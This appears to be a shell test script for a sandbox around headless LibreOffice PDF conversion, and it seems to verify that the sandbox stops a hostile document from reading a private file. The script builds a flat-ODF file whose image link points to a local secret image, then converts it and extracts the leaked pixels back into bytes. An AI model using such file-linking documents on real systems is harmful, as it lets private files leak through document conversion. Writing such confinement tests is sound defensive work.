needs libreoffice-writer-nogui:/usr/bin/libreoffice poppler-utils:/usr/bin/pdfimages python3:/usr/bin/python3

given() {
    mkdir ~/papers
    printf '<html><body><h1>A letter</h1><p>Dear reader</p></body></html>' >~/papers/letter.html
}

office() { $ward libreoffice -env:UserInstallation="file://$PWD/office" --headless --convert-to "$@" >/dev/null 2>&1; }

generated='*.pdf'
works() {
    office pdf:writer_web_pdf_Export ~/papers/letter.html
    pdftotext letter.pdf -
    rm -rf office
}

attack='a document that shows a private picture by a link'
goal='stolen'
denied='read ~/private/picture.pgm'
bait() {
    mkdir ~/private
    printf 'P5\n%d 1\n255\n%s' "${#secret}" "$secret" >~/private/picture.pgm  # its grey pixels are the secret
    cat >~/papers/hostile.fodt <<'ODF'
<?xml version="1.0" encoding="UTF-8"?>
<office:document office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.text"
  xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"
  xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"
  xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"><office:body><office:text><text:p>
<draw:frame text:anchor-type="as-char" svg:width="8cm" svg:height="1cm">
  <draw:image xlink:href="file:///home/you/private/picture.pgm" xlink:type="simple"/></draw:frame>
</text:p></office:text></office:body></office:document>
ODF
}
attack() {
    office 'pdf:writer_pdf_Export:{"UseLosslessCompression":{"type":"boolean","value":"true"}}' ~/papers/hostile.fodt
    pdfimages hostile.pdf picture
    for picture in picture-*; do python3 -c '
import re, sys
pixels = re.sub(rb"^P6\s+\d+ \d+\s+255\s", b"", open(sys.argv[1], "rb").read())
open("stolen", "wb").write(bytes(pixel + 1 for pixel in pixels[::3]))' "$picture"; done  # each pixel comes out darker by one
}
